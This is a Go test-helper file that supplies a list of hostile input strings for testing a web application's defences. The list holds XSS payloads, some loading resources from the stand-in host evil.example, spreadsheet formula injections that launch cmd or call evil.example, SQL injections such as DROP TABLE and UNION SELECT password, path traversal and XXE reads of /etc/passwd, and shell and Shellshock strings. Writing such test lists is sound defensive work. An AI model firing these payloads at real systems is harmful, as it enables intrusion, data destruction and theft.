// SPDX-License-Identifier: EUPL-1.2

package flowtest

import "strings"

// Hostile are texts that somebody may type who means harm, or who is called so:
// ours, and no collection of others'. Where one of them runs it calls trap(), or
// makes an element, an attribute, a formula, a header or a query of its own.
// None hides letters: those are refused at the door (sild.Problems.Text).
func Hostile() []string {
	return strings.Split(strings.TrimSpace(hostile), "\n")
}

const hostile = `
<script>trap()</script>
<ScRiPt>trap()</sCrIpT>
<script/trap>trap()</script>
<script src=//evil.example/trap.js></script>
<script src="data:text/javascript,trap()"></script>
<<script>trap();//<</script>
</title><script>trap()</script>
</textarea><script>trap()</script>
</script><script>trap()</script>
</style><script>trap()</script>
</option></select><script>trap()</script>
--><script>trap()</script>
]]><script>trap()</script>
<!--><script>trap()</script>-->
<img src=x onerror=trap()>
<img src=x onerror="trap()">
<img/src=x/onerror=trap()>
<img src=x:x onerror=trap()//
<img src="x" srcset="x" onload=trap()>
<IMG """><SCRIPT>trap()</SCRIPT>">
<svg onload=trap()>
<svg/onload=trap()>
<svg><script>trap()</script></svg>
<svg><script href="data:text/javascript,trap()"/></svg>
<svg><animate onbegin=trap() attributeName=x dur=1s>
<svg><a href="javascript:trap()"><text y=20>trap</text></a></svg>
<svg><foreignObject><iframe src="javascript:trap()"></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=trap()>#x"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror=trap()>
<math><a xlink:href="javascript:trap()">trap</a></math>
<iframe src="javascript:trap()"></iframe>
<iframe srcdoc="<script>parent.trap()</script>"></iframe>
<object data="javascript:trap()"></object>
<object data="data:text/html,<script>trap()</script>"></object>
<embed src="javascript:trap()">
<link rel=stylesheet href=//evil.example/trap.css>
<link rel=import href="data:text/html,<script>trap()</script>">
<base href=//evil.example/trap/>
<meta http-equiv=refresh content="0;url=javascript:trap()">
<meta http-equiv=refresh content="0;url=//evil.example/trap">
<form action=//evil.example/trap><button>trap</button></form>
<form><button formaction="javascript:trap()">trap</button></form>
<input autofocus onfocus=trap()>
<select autofocus onfocus=trap()>
<textarea autofocus onfocus=trap()>
<keygen autofocus onfocus=trap()>
<details open ontoggle=trap()>
<video><source onerror=trap()></video>
<video src=x onerror=trap()></video>
<audio src=x onerror=trap()></audio>
<body onload=trap()>
<body onpageshow=trap()>
<marquee onstart=trap()>trap</marquee>
<div onpointerenter=trap() style="position:fixed;inset:0">trap</div>
<div style="background:url(javascript:trap())">trap</div>
<div style="width:expression(trap())">trap</div>
<style>@import "//evil.example/trap.css";</style>
<style>*{background:url(//evil.example/trap)}</style>
<a href="javascript:trap()">trap</a>
<a href="jav&#x09;ascript:trap()">trap</a>
<a href="&#106;avascript:trap()">trap</a>
<a href="vbscript:trap()">trap</a>
<a href="data:text/html,<script>trap()</script>">trap</a>
<a href=//evil.example/trap target=_blank>trap</a>
<table background="javascript:trap()"><tr><td>trap</table>
<template><script>trap()</script></template>
<dialog open onclose=trap()>trap</dialog>
<noscript><p title="</noscript><img src=x onerror=trap()>">
<xmp><p title="</xmp><img src=x onerror=trap()>">
<plaintext>trap
<isindex action="javascript:trap()" type=image>
<trap-element onclick=trap() contenteditable autofocus>trap</trap-element>
<p is=trap-element slot=trap id=main>trap</p>
<a id=trap name=trap></a><a id=trap name=length></a>
<form id=trap><input name=attributes><input name=parentNode></form>
" onfocus=trap() autofocus x="
' onfocus=trap() autofocus x='
" onmouseover="trap()
' onmouseover='trap()
"><script>trap()</script>
'><script>trap()</script>
"/><img src=x onerror=trap()>
` + "`" + ` onfocus=trap() autofocus
" style="position:fixed;inset:0" onclick="trap()
" formaction="javascript:trap()
" href="javascript:trap()
"accesskey="x"onclick="trap()"
x onfocus=trap() autofocus
javascript:trap()
JaVaScRiPt:trap()
javascript://%0atrap()
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+trap()//'>
java script:trap()
&#106;&#97;&#118;&#97;script:trap()
data:text/html,<script>trap()</script>
data:text/html;base64,PHNjcmlwdD50cmFwKCk8L3NjcmlwdD4=
vbscript:trap()
//evil.example/trap
\\evil.example\trap
https:evil.example/trap
/\evil.example/trap
@evil.example/trap
blob:https://evil.example/trap
view-source:javascript:trap()
';trap();//
";trap();//
\";trap();//
\';trap();//
';trap()-'
"-trap()-"
${trap()}
{{trap()}}
{{constructor.constructor('trap()')()}}
<%= trap() %>
#{trap()}
[[${trap()}]]
{trap}
{name} {date} {n} {link}
{0} {1} %s %d %n %x%x%x%n
%(trap)s $trap $(trap) ` + "`trap`" + `
\u003cscript\u003etrap()\u003c/script\u003e
\x3cscript\x3etrap()\x3c/script\x3e
&lt;script&gt;trap()&lt;/script&gt;
&amp;lt;script&amp;gt;trap()
%3Cscript%3Etrap()%3C/script%3E
+ADw-script+AD4-trap()+ADw-/script+AD4-
＜script＞trap()＜/script＞
‹script›trap()‹/script›
=trap()
=1+1
=cmd|' /C calc'!A0
=HYPERLINK("https://evil.example/?"&A1,"trap")
=WEBSERVICE("https://evil.example/trap")
=IMPORTXML("https://evil.example/","//trap")
=DDE("cmd";"/C calc";"trap")
+1+cmd|' /C calc'!A0
-1+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
＝1+1
＋1+1
－1+1
＠SUM(1)
;=1+1
",=1+1,"
";"=1+1
';=1+1;'
| =1+1
'=1+1
%0d%0aSet-Cookie: trap=1
x%0d%0a%0d%0a<script>trap()</script>
trap: 1
' OR '1'='1
' OR 1=1--
'; DROP TABLE person; --
" OR ""="
') OR ('1'='1
1; SELECT pg_sleep(9)--
' UNION SELECT password FROM app_user--
\'; DELETE FROM trail; --
$1 ?1 :x @x
% _ \% \_
../../../../etc/passwd
..\..\..\windows\win.ini
/etc/passwd
file:///etc/passwd
C:\trap.txt
con.pdf
trap.pdf.exe
*)(uid=*))(|(uid=*
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY trap SYSTEM "file:///etc/passwd">]><x>&trap;</x>
<?php trap(); ?>
<!--#exec cmd="trap" -->
; ls | trap & trap && trap
$(trap) || trap
() { :; }; trap
{"$ne": null}
{"__proto__": {"trap": true}}
__proto__
constructor
toString
undefined
null
NaN
-0
1e400
00:00:00
true
مرحبا بالعالم
שלום trap
Ἀλέξανδρος Ёлкин Łukasz Õunapuu
İstanbul ıIiİ
ﬁ ſ ß ẞ
é é
👩‍👩‍👧‍👦 🇪🇪 👍🏿
Z̴̙̤̞͉͚̯̞̠͍͑ͫ̓ͪ̂ͫ̽A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳
𝐭𝐫𝐚𝐩 ｔｒａｐ ⓣⓡⓐⓟ
аdmin (with a Cyrillic а)
`
